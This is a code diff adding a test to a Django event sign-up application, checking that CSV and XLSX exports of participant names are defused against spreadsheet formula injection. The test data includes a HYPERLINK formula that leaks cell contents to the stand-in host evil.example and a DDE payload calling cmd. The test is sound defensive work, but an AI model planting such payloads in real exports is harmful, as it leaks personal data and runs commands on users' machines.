@@ -57,6 +57,29 @@ def test_organisers_filter_the_sign_ups_of_an_event_and_export_them(client, djan
     assert "Urząd Miasta Gdańska" in [cell.value for cell in sheet[2]] + [cell.value for cell in sheet[3]]
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&D2&";"&E2,"Kliknij")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_a_name_written_as_a_formula_reaches_the_csv_as_text_and_the_xlsx_unchanged(client, django_user_model):
+    visitor = Client()
+    signed_up_and_confirmed(visitor, "formula@example.org", name=FORMULAS[0], institution=FORMULAS[1])
+    signed_up_and_confirmed(visitor, "plus@example.org", name="+48 Kowalski", institution="-1+1")
+    member_of("Organizatorzy", django_user_model, client)
+    index = reverse("sign_ups:index")
+
+    export = client.get(index, {"export": "csv"})
+    _heading, *rows = csv.reader(io.StringIO(b"".join(export.streaming_content).decode()))
+    cells = {cell for row in rows for cell in row[2:5]}
+    assert {"'" + FORMULAS[0], "'" + FORMULAS[1], "'+48 Kowalski", "'-1+1"} <= cells
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+    export = client.get(index, {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
+    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+    assert FORMULAS[0] in [cell.value for cell in cells]
+    assert all(cell.data_type != "f" for cell in cells)
+
+
 def test_the_attendance_list_holds_the_confirmed_in_alphabetical_order(client, django_user_model, sign_ups):
     member_of("Organizatorzy", django_user_model, client)
     html = client.get(reverse("registrations_attendance_list", args=[training().pk])).content.decode()
